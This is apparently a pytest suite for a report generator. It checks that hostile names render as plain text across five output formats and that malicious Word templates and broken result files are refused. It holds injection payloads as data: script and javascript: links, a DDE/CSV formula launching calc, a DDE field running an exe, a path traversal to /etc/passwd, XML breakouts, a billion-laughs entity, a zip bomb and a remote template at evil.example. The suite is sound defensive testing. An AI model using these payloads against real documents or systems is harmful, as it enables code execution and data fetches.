"""Names that attack end as plain text in every format; files that attack end in a message."""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree

from assess.cli.main import run
from assess.io.results import read_result
from assess.model.problems import InputError
from assess.model.result import ResultContract
from assess.model.text import Text
from assess.report.build import make_report
from assess.report.document import strip_controls
from assess.report.formats.docx_template import read_template
from assess.report.formats.registry import render
from tests.reports.factories import DAY, EXAMPLES, advised, judged
from tests.reports.figures import plain
from tests.reports.rendered_content import Page, W, word_text, workbook_cells

pytestmark = pytest.mark.slow

NAMES = {
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}{% raw %}${7*7}#{7*7}",
    "formula": "=cmd|'/C calc'!A0",
    "plus": "+1+2",
    "minus": "-1-2",
    "at": "@SUM(1)",
    "markup": "]]></w:t><w:instrText> HYPERLINK http://x </w:instrText>&amp;\"'",
    "control": "a\x00\x07\x1b[31m\x08b\x0b\x7f\x85\ud800c",
    "long": "长" * 10_000,
    "rtl": "\u202eمرحبا\u202c שלום\u2066x",
    "format": "%s %n {0} \\N \\input{x}",
    "path": "../../etc/passwd",
    "markdown": "[a](javascript:alert(1)) `x` | # * _",
}


def named(name: str, result: ResultContract) -> ResultContract:
    """The result with a hostile text wherever a text from outside can stand."""
    text = Text(name, name)
    profile = replace(result.profile, cluster=name, place=name, industry=name, about=text)
    stated = tuple(replace(each, title=text, source=name, note=name, evidence=name) for each in result.stated[:12])
    nodes = tuple(
        replace(
            node,
            title=text,
            descriptor=node.descriptor and text,
            used=tuple(replace(used, title=text, source=name, note=name) for used in node.used),
        )
        for node in result.nodes
    )
    advice = tuple(replace(each, title=text, because=text, cautions=(text,)) for each in result.advice[:2])
    return replace(result, profile=profile, stated=stated, nodes=nodes, advice=advice, sources={"D1": text})


@pytest.mark.parametrize("suffix", [".docx", ".html", ".xlsx", ".md", ".json"])
def test_names_end_as_plain_text(suffix: str, subtests: pytest.Subtests) -> None:
    for kind, name in NAMES.items():
        if suffix == ".json" and "\ud800" in name:
            continue  # no reader of ours lets half a character in
        with subtests.test(kind):
            base = judged("tongbai-peanut") if len(name) > 1000 else advised("tongbai-peanut")
            long = replace(base, profile=replace(base.profile, cluster=name))
            result = named(name, base) if len(name) <= 1000 else long
            CHECKS[suffix](render(make_report([result], "zh", DAY), suffix), name)


def _word(raw: bytes, name: str) -> None:
    assert strip_controls(name) in word_text(raw)
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        root = etree.fromstring(package.read("word/document.xml"))
        codes = {code.text.split()[0] for code in root.iter(f"{W}instrText")}
        assert codes == {"TOC", "REF", "SEQ"}
        assert b"External" not in package.read("word/_rels/document.xml.rels")


def _html(raw: bytes, name: str) -> None:
    page = Page(raw)
    assert " ".join(strip_controls(name).split()) in " ".join(page.text.split())
    assert not page.all("script")
    assert "49" not in re.sub(r"\s", "", page.parts[0])
    assert all((a.get("href") or "#").startswith("#") for a in page.all("a"))
    assert not set(raw.decode()) & set("\x00\x07\x1b\u202e\u2066")


def _workbook(raw: bytes, name: str) -> None:
    shown = strip_controls(name)
    found = [value for rows in workbook_cells(raw).values() for _, value in rows]
    assert any(value == shown for value in found)
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        for part in package.namelist():
            if part.startswith("xl/worksheets/sheet"):
                for formula in re.findall(rb"<f>(.*?)</f>", package.read(part)):
                    assert not re.search(rb"cmd|HYPERLINK|WEBSERVICE|\+1\+2|SUM\(1\)", formula)


def _markdown(raw: bytes, name: str) -> None:
    text = raw.decode()
    assert strip_controls(name) in re.sub(r"\\([\\`*_{}\[\]<>#|!$~])", r"\1", text)
    assert not re.search(r"(?<!\\)<script|(?<!\\)\]\(javascript", text)


def _json(raw: bytes, name: str) -> None:
    assert json.loads(raw)["profile"]["cluster"] == name


CHECKS: dict[str, Callable[[bytes, str], None]] = {
    ".docx": _word,
    ".html": _html,
    ".xlsx": _workbook,
    ".md": _markdown,
    ".json": _json,
}


# Saved results


def saved(tmp_path: Path, change: Callable[[dict], object] | str) -> Path:
    path = tmp_path / "result.json"
    if isinstance(change, str):
        path.write_text(change, encoding="utf-8")
    else:
        data = plain(judged("tongbai-peanut"))
        data = change(data) or data
        path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _set(path: str, value: object) -> Callable[[dict], None]:
    def change(data: dict) -> None:
        *steps, last = path.split(".")
        here = data
        for step in steps:
            here = here[int(step)] if isinstance(here, list) else here[step]
        if isinstance(here, list):
            here[int(last)] = value
        else:
            here[last] = value

    return change


BROKEN: dict[str, tuple[Callable[[dict], object] | str, str]] = {
    "not json": ("{", "E601"),
    "a list": ("[]", "E602"),
    "another file": ('{"schema": "x"}', "E602"),
    "an older version": (_set("schema", "assess/result/0"), "E603"),
    "a newer version": (_set("schema", "assess/result/2"), "E603"),
    "not a number": ('{"schema": "assess/result/1", "score": NaN}', "E604"),
    "infinity": ('{"schema": "assess/result/1", "score": 1e999}', "E604"),
    "a huge integer": ('{"schema": "assess/result/1", "score": ' + "9" * 4000 + "}", "E604"),
    "deep": ('{"schema": ' + "[" * 100_000 + "]" * 100_000 + "}", "E112"),
    "a little too deep": (_set("nodes", json.loads("[" * 60 + "]" * 60)), "E112"),
    "text for a number": (_set("low", "12"), "E605"),
    "no such status": (_set("nodes.0.status", "perhaps"), "E605"),
    "a missing key": (lambda data: data.pop("nodes") and None, "E605"),
    "a circle": (_set("nodes.0.parent", "specialization"), "E605"),
    "an orphan": (_set("nodes.3.parent", "nobody"), "E605"),
    "an id twice": (_set("nodes.2.id", "SP01"), "E605"),
    "a scale of no kind": (_set("nodes.1.scale", {"eval": "1"}), "E605"),
    "a scale that runs backwards": (_set("nodes.1.scale", {"points": {"1": 5, "0": 9}}), "E605"),
    "a gate of no kind": (_set("gates.0.sign", "=cmd"), "E605"),
    "empty": (" ", "E105"),
}


@pytest.mark.parametrize(("change", "code"), BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_result_is_refused_by_name(tmp_path: Path, change: Callable[[dict], object] | str, code: str) -> None:
    with pytest.raises(InputError) as refused:
        read_result(saved(tmp_path, change))

    assert [problem.code for problem in refused.value.problems] == [code]


def test_keys_of_a_later_program_are_passed_over(tmp_path: Path) -> None:
    def change(data: dict) -> None:
        data["later"] = {"x": 1}
        data["nodes"][0]["later"] = 1

    assert plain(read_result(saved(tmp_path, change))) == plain(judged("tongbai-peanut"))


# Templates


def house(tmp_path: Path, change: Callable[[dict[str, bytes]], None] = lambda parts: None) -> Path:
    """A bureau's template, changed."""
    import docx
    from docx.shared import Mm, Pt

    document = docx.Document()
    style = document.styles["Body Text"]
    style.font.name, style.font.size = "Courier New", Pt(11)
    document.styles["Heading 1"].font.size = Pt(20)
    section = document.sections[0]
    section.header.paragraphs[0].text = "Bureau of Clusters"
    section.page_width, section.page_height, section.left_margin = Mm(200), Mm(280), Mm(33)
    document.add_paragraph("{{ 7*7 }} sample text of the bureau")
    first = io.BytesIO()
    document.save(first)
    with zipfile.ZipFile(first) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    path = tmp_path / "house.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return path


def _replace(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return change


def _add(name: str, part: bytes) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: part})


EXTERNAL = (
    b'<Relationship Id="rId99" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
BEGIN = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
FETCHING = (
    BEGIN + b"<w:r><w:instrText> PAGE</w:instrText></w:r>" + END
    + BEGIN + b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:x.exe</w:instrText></w:r>" + END
    + b"<w:r>"
)  # fmt: skip
QUOTED = BEGIN + BEGIN + b"<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>" + END + END + b"<w:r>"
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w:styles xmlns:w="x">&b;</w:styles>'
ATTACKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "macros": (_add("word/vbaProject.bin", b"x"), "E613"),
    "macro type": (_replace("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"), "E613"),
    "embedded object": (_add("word/embeddings/oleObject1.bin", b"x"), "E613"),
    "remote template": (_replace("word/_rels/document.xml.rels", b"</Relationships>", EXTERNAL), "E614"),
    "entities": (lambda parts: parts.update({"word/styles.xml": LAUGHS}), "E612"),
    "bomb": (_add("word/big.xml", b" " * 50_000_000), "E612"),
    "no styles": (lambda parts: parts.pop("word/styles.xml") and None, "E612"),
    "no types": (lambda parts: parts.pop("[Content_Types].xml") and None, "E612"),
    "an entity in a header": (
        _replace("word/header1.xml", b"<w:hdr", b'<!DOCTYPE x [<!ENTITY a "ha">]><w:hdr'),
        "E612",
    ),
    "a field that fetches": (_replace("word/header1.xml", b"<w:r>", FETCHING), "E614"),
    "a field behind a field": (_replace("word/header1.xml", b"<w:r>", QUOTED), "E614"),
    "deep": (_replace("word/header1.xml", b"<w:r>", b"<w:p>" * 5000 + b"</w:p>" * 5000 + b"<w:r>"), "E612"),
    "no page": (_replace("word/document.xml", b"w:pgSz", b"w:pgXX"), "E612"),
    "a page of no width": (_replace("word/document.xml", b'w:w="11339"', b'w:w="99"'), "E612"),
    "a page of no number": (_replace("word/document.xml", b'w:w="11339"', b'w:w="wide"'), "E612"),
    "broken xml": (lambda parts: parts.update({"word/document.xml": b"<w:"}), "E612"),
}


@pytest.mark.parametrize(("change", "code"), ATTACKS.values(), ids=ATTACKS.keys())
def test_a_template_that_attacks_is_refused(
    tmp_path: Path, change: Callable[[dict[str, bytes]], None], code: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = house(tmp_path, change)

    with pytest.raises(InputError) as refused:
        read_template(path)

    assert refused.value.problems[0].code == code
    out = tmp_path / "r.docx"
    assert run(["report", str(EXAMPLES / "tongbai-peanut.yaml"), "-o", str(out), "--template", str(path)]) == 2
    assert not out.exists()
    assert code in capsys.readouterr().err


def test_a_file_that_is_no_template_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "house.docx"
    path.write_bytes(b"not a zip")

    with pytest.raises(InputError) as refused:
        read_template(path)

    assert refused.value.problems[0].code == "E612"


def written_into(template: Path) -> dict[str, bytes]:
    """Parts of a report in a bureau's template, once python-docx has read it."""
    import docx

    raw = render(make_report([judged("tongbai-peanut")], "zh", DAY), ".docx", template)
    assert "sample text" not in word_text(raw)
    docx.Document(io.BytesIO(raw))
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        return {name: package.read(name) for name in package.namelist()}


def style_named(parts: dict[str, bytes], name: str) -> etree._Element:
    """The one style of a name."""
    styles = etree.fromstring(parts["word/styles.xml"])
    (found,) = [s for s in styles.iter(f"{W}style") if s.find(f"{W}name").get(f"{W}val") == name]
    return found


def test_a_report_is_written_into_the_template_of_a_bureau(tmp_path: Path) -> None:
    """Its styles, page and header; our numbering of headings, and the styles that it lacks."""
    parts = written_into(house(tmp_path, _add("word/media/old.png", b"of the old text")))

    document = etree.fromstring(parts["word/document.xml"])
    body = style_named(parts, "Body Text")
    assert body.find(f"{W}rPr/{W}rFonts").get(f"{W}ascii") == "Courier New"
    assert body.find(f"{W}rPr/{W}sz").get(f"{W}val") == "22"
    assert style_named(parts, "heading 1").find(f"{W}pPr/{W}numPr/{W}ilvl").get(f"{W}val") == "0"
    assert style_named(parts, "Table Head").find(f"{W}rPr/{W}sz").get(f"{W}val") == "21"
    known = {s.get(f"{W}styleId") for s in etree.fromstring(parts["word/styles.xml"]).iter(f"{W}style")}
    assert {s.get(f"{W}val") for s in document.iter(f"{W}pStyle")} <= known
    pages = [(int(s.get(f"{W}w")), int(s.get(f"{W}h"))) for s in document.iter(f"{W}pgSz")]
    assert {(round(w / 56.7), round(h / 56.7)) for w, h in pages} == {(200, 280), (280, 200)}
    assert "Bureau of Clusters" in parts["word/header1.xml"].decode()
    assert len(list(document.iter(f"{W}headerReference"))) == len(pages)
    assert "word/media/old.png" not in parts


def test_no_relation_brings_the_old_text_back(tmp_path: Path) -> None:
    """A header that refers to the text of the template, which python-docx and Word would follow."""
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/x" Target="document.xml"/>'
        b"</Relationships>"
    )

    parts = written_into(house(tmp_path, _add("word/_rels/header1.xml.rels", rels)))

    assert parts["word/document.xml"].count(b"<w:p>") > 100


def test_the_count_of_pages_begins_once(tmp_path: Path) -> None:
    counted = _replace("word/document.xml", b"<w:cols", b'<w:pgNumType w:fmt="upperRoman" w:start="5"/><w:cols')

    parts = written_into(house(tmp_path, counted))

    numbers = list(etree.fromstring(parts["word/document.xml"]).iter(f"{W}pgNumType"))
    assert len(numbers) > 1
    assert [number.get(f"{W}fmt") for number in numbers] == ["upperRoman"] * len(numbers)
    assert [number.get(f"{W}start") for number in numbers] == ["5"] + [None] * (len(numbers) - 1)


def test_styles_are_known_by_their_names_whatever_their_ids(tmp_path: Path) -> None:
    """A Chinese Word calls the style of first headings `1`."""
    parts = written_into(house(tmp_path, _replace("word/styles.xml", b'w:styleId="Heading1"', b'w:styleId="1"')))

    used = {s.get(f"{W}val") for s in etree.fromstring(parts["word/document.xml"]).iter(f"{W}pStyle")}
    counted = {s.get(f"{W}val") for s in etree.fromstring(parts["word/numbering.xml"]).iter(f"{W}pStyle")}
    assert "1" in used & counted
    assert "Heading1" not in used | counted


def test_a_template_without_numbering_is_given_ours(tmp_path: Path) -> None:
    def without(parts: dict[str, bytes]) -> None:
        del parts["word/numbering.xml"]
        relations, count = re.subn(rb"<Relationship [^>]*numbering[^>]*/>", b"", parts["word/_rels/document.xml.rels"])
        assert count == 1
        parts["word/_rels/document.xml.rels"] = relations

    parts = written_into(house(tmp_path, without))

    assert b"numbering.xml" in parts["word/_rels/document.xml.rels"]
    assert b"/word/numbering.xml" in parts["[Content_Types].xml"]
    assert b"w:abstractNum" in parts["word/numbering.xml"]


def test_attributes_of_a_style_cannot_break_out(tmp_path: Path) -> None:
    """What was an attribute stays one; a quote, a bracket or an entity does not end it."""
    attack = _replace("word/styles.xml", b"<w:sz w:val=", b'<w:sz w:evil="&quot;/&gt;&lt;w:instrText&gt;" w:val=')

    parts = written_into(house(tmp_path, attack))

    assert not list(etree.fromstring(parts["word/styles.xml"]).iter(f"{W}instrText"))
